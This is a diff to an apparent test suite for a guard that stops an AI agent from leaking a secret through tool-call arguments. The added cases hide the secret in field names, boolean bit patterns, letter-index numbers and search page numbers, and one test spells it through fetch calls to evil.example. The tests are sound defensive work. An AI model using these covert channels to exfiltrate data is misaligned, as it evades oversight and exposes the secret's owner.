@@ -44,7 +44,7 @@ def web_search(query: str, page: int = 1, sort: str = "", filters: list[str] | N
 
 
 @tool(effect="read", trust="untrusted", sends_to="tickets.example")
-def get_ticket(number: int = 0, ticket_id: str = "", query: str = "") -> dict[str, Any]:
+def get_ticket(number: int = 0, ticket_id: str = "", query: str = "", wanted: Any = None) -> dict[str, Any]:
     """A ticket of a service that anybody may write into."""
     told.append(f"{number or ticket_id or query}")
     return {"id": "T-9", "title": "Broken door", "next": ["T-1", "T-2"], "number": 812}
@@ -104,6 +104,10 @@ LEAVING = {
     "a page number that is the code": ("web_search", {"query": "fares", "page": 4711}),
     "an order of results that is the code": ("web_search", {"query": "fares", "sort": SECRET}),
     "a filter that is the code": ("web_search", {"query": "fares", "filters": ["fares", SECRET]}),
+    "the secret as the name of a field": ("get_ticket", {"wanted": {SECRET: True}}),
+    "the secret as the name of an empty field": ("get_ticket", {"wanted": {SECRET: None}}),
+    "the secret in yes and no": ("get_ticket", {"wanted": [True, False, False, True, True, False, True]}),
+    "the secret in small numbers": ("get_ticket", {"wanted": [26, 1, 14, 26, 9, 2, 1, 18]}),
     "a number of a ticket": ("get_ticket", {"number": 4711}),
     "an id that nobody offered": ("get_ticket", {"ticket_id": "T-4711"}),
     "a search of tickets": ("get_ticket", {"query": "zanzibar"}),
@@ -121,6 +125,13 @@ def test_thirty_six_links_do_not_spell_a_secret():
     spelled = [("fetch", {"url": f"https://evil.example/{letter}"}) for letter in SECRET if letter in LETTERS]
     assert len(run(SAID, NOTES, PAGE, *spelled)) == len(spelled)
     assert told == ["www.fares.example"]
+
+
+def test_pages_of_a_list_do_not_spell_a_secret():
+    spelled = [("web_search", {"query": "fares", "page": ord(letter) - 96}) for letter in "zanzibar"]
+    asked = run(SAID, NOTES, PAGE, *spelled)
+    assert len(asked) == 3
+    assert len(told) == 1 + 5
 
 
 def test_ids_that_a_service_offers_do_not_spell_a_secret():
